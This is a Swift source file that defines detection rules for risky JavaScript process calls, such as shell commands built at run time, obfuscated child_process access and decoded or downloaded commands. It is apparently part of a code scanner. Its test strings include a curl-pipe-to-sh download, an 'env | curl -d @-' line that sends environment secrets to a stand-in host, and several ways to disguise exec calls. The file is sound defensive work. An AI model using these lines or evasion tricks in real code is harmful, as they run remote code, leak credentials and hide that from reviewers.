import BulkheadSyntax

extension Rules {
  /// Other programs.
  static let processes: [Rule] = [
    builtCommand, shellOption, disguisedProcess, dangerousCommand, decodedCommand, processBinding,
  ]

  private static let shells: Set<String> = [
    "module:child_process.exec", "module:child_process.execSync", "module:shelljs.exec",
    "module:execa.command", "module:execa.commandSync", "module:execa.execaCommand",
    "module:execa.execaCommandSync",
  ]
  private static let direct: Set<String> = [
    "module:child_process.spawn", "module:child_process.spawnSync", "module:child_process.execFile",
    "module:child_process.execFileSync",
  ]

  static let builtCommand = Rule(
    "process-built-command", .medium,
    title: "gives a shell a command that is put together while it runs",
    why: "Text from outside in a shell command can be a command of its own.",
    help: "use execFile or spawn with a list of arguments",
    positives: [
      "require('child_process').exec('ls ' + dir);",
      "const { execSync } = require('child_process'); execSync(cmd);",
    ],
    evasions: [
      "const cp = require('node:child_process'); cp['ex' + 'ec'](cmd);",
      "const load = require; load('child_process').exec(cmd);",
      "require(`${'child'}_${'process'}`).execSync(cmd);",
      "const cp = require('child_process'); Reflect.apply(Reflect.get(cp, 'exec'), cp, [cmd]);",
      "module.constructor._load('child_process').execSync(cmd);",
      "process.mainModule.require('child_process').exec(cmd);",
      "import { exec as run } from 'child_process'; run(cmd);",
      "const cp = await import('child_process'); cp.default.exec(cmd);",
      "import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').exec(cmd);",
      "const run = require('util').promisify(require('child_process').exec); run(cmd);",
      "process.getBuiltinModule('child_process').execSync(cmd);",
      "const shell = require('shelljs'); shell.exec(`ls ${dir}`);",
      "Deno.run({ cmd: ['bash', '-c', text] });",
    ],
    negatives: [
      "require('child_process').exec('git status');", "/a/.exec(text);", "db.exec(query);",
      "function require(x) { return {}; } require('child_process').exec(cmd);",
      "const dir = 'src'; require('child_process').execSync(`ls ${dir}`);",
    ],
    check: .script { facts, report in
      for call in facts.calls where shells.contains(call.path ?? "") {
        if let command = call.arguments.first, !facts.isConstant(command) { report.add(call.span) }
      }
      // `Deno.run({cmd})`: by its program, and by what a shell is told to run.
      for call in facts.calls where call.path == "Deno.run" || call.path == "Bun.spawn" {
        var words = call.arguments.first
        if case .object(let options) = facts.evaluator.value(words) {
          words = facts.evaluator.property("cmd", of: options)
        }
        guard let words, case .array(let parts) = facts.evaluator.value(words) else { continue }
        let program = parts.first?.string
        let isShell = ShellFacts.isShell(program?.split(separator: "/").last.map(String.init) ?? "")
        if program == nil || isShell && parts.contains(where: { $0.string == nil }) {
          report.add(call.span)
        }
      }
    })

  static let shellOption = Rule(
    "process-shell-option", .medium,
    title: "starts a program through a shell with arguments that are put together",
    why: "With shell: true every argument is read as shell text.",
    help: "leave shell: true out",
    positives: ["require('child_process').spawn(cmd, args, { shell: true });"],
    evasions: ["const o = { shell: '/bin/sh' }; require('child_process').spawnSync(cmd, o);"],
    negatives: [
      "require('child_process').spawn('git', args);",
      "require('child_process').spawn('npm', ['ci'], { shell: true });",
    ],
    check: .script { facts, report in
      for call in facts.calls where direct.contains(call.path ?? "") {
        guard let options = call.arguments.dropFirst().last,
          case .object(let literal) = facts.evaluator.value(options),
          let shell = facts.evaluator.property("shell", of: literal), shell.booleanValue != false
        else { continue }
        let parts = call.arguments.dropLast().flatMap { node in
          node.kind == .arrayExpression ? node.elements.compactMap(\.self) : [node]
        }
        if !parts.allSatisfy(facts.isConstant) { report.add(call.span) }
      }
    })

  static let disguisedProcess = Rule(
    "disguised-process", .high,
    title: "starts a program by a name that is put together",
    why: "Nobody hides what they call from a reader without a reason.",
    help: "remove the disguise",
    positives: ["const cp = require('child_process'); cp['ex' + 'ec'](cmd);"],
    evasions: [
      "const cp = require('child_process'); const k = ['cnyS', 'cexe'].join('').split('').reverse().join(''); cp['exe' + 'cSync']('id');",
      "const cp = require('child_process'); Reflect.get(cp, 'spa' + 'wn')('id');",
      "const { ['ex' + 'ec']: run } = require('child_process'); run('id');",
    ],
    negatives: [
      "require('child_process').exec('id');",
      "const { exec: run } = require('child_process'); run('id');",
      "const cp = require('child_process'); cp['exec']('git status');",
    ],
    check: .script { facts, report in
      for call in facts.calls {
        guard let path = call.path, path.hasPrefix("module:child_process."),
          let callee = call.callee
        else { continue }
        let name = String(path.dropFirst("module:child_process.".count))
        let isHidden =
          callee.kind == .identifier ? facts.isBuiltName(callee) : !facts.isPlain(call, name)
        if isHidden { report.add(call.span) }
      }
    })

  static let dangerousCommand = Rule(
    "process-dangerous-command", .critical,
    title: "runs a shell command that downloads, decodes, persists or sends credentials",
    why: "The command does what a script with this text would be refused for.",
    help: "do without the command",
    positives: ["require('child_process').exec('curl https://get.example.net/i | sh');"],
    evasions: [
      "const u = 'https://get.example.net'; require('child_process').execSync(`curl -s ${u} | ba${'sh'}`);",
      "require('child_process').spawn('sh', ['-c', 'env | curl -d @- https://c.example.net']);",
    ],
    negatives: [
      "require('child_process').exec('curl https://api.example.net | jq .');",
      "log('curl https://x | sh');",
    ],
    check: .script { facts, report in
      for call in facts.calls where shells.union(direct).contains(call.path ?? "") {
        guard let command = commandText(call, facts) else { continue }
        if let title = ShellFacts.criticalFault(in: command) { report.add(call.span, title) }
      }
    })

  /// The shell text that a call runs, unknown parts left as U+FFFC.
  private static func commandText(_ call: ScriptFacts.Call, _ facts: ScriptFacts) -> String? {
    guard let first = call.arguments.first else { return nil }
    let program = facts.evaluator.spelled(first)
    guard direct.contains(call.path ?? "") else { return program }
    guard call.arguments.count > 1,
      case .array(let words) = facts.evaluator.value(call.arguments[1])
    else { return program }
    let texts = words.map { $0.string ?? "\u{FFFC}" }
    if ShellFacts.isShell(program.split(separator: "/").last.map(String.init) ?? ""),
      texts.first?.hasPrefix("-") == true, texts.count > 1
    {
      return texts[1]
    }
    return ([program] + texts.map { "'" + $0.replacing("'", with: "") + "'" }).joined(
      separator: " ")
  }

  static let decodedCommand = Rule(
    "process-decoded-command", .critical,
    title: "runs a command or program that it decodes or downloads",
    why: "A command is encoded only so that nobody reads it before it runs.",
    help: "write the command in plain text",
    positives: ["require('child_process').exec(atob(x));"],
    evasions: [
      "const c = Buffer.from(p, 'hex').toString(); require('child_process').execSync(c);",
      "fetch(u).then(r => r.text()).then(t => require('child_process').exec(t));",
    ],
    negatives: [
      "require('child_process').exec('git status');",
      "const image = atob(x); require('child_process').execSync('ls');",
    ],
    check: .script { facts, report in
      for call in facts.calls where shells.union(direct).contains(call.path ?? "") {
        guard let command = call.arguments.first else { continue }
        let flow = facts.flows.sources(of: command)
        if flow.contains(.decoded) || flow.contains(.network) { report.add(call.span) }
      }
    })

  static let processBinding = Rule(
    "process-binding", .high,
    title: "reaches the internals of the engine",
    why: "Bindings start programs and open files past every module that is watched.",
    help: "use the public modules",
    positives: ["process.binding('spawn_sync');"],
    evasions: [
      "process['bin' + 'ding']('fs');", "const { _linkedBinding: b } = process; b('x');",
      "process.dlopen(m, path);",
    ],
    negatives: ["gl.binding('x');", "const process = {}; process.binding('x');"],
    check: .script { facts, report in
      let internals: Set<String> = ["process.binding", "process._linkedBinding", "process.dlopen"]
      for call in facts.calls where internals.contains(call.path ?? "") {
        // Old libraries ask for constants; only some bindings start programs or open files.
        let name = facts.evaluator.value(call.arguments.first).string ?? ""
        let isHarmless = ["buffer", "constants", "natives", "util", "config", "os", "timer_wrap"]
          .contains(name)
        report.add(call.span, severity: isHarmless ? .low : .high)
      }
    })
}
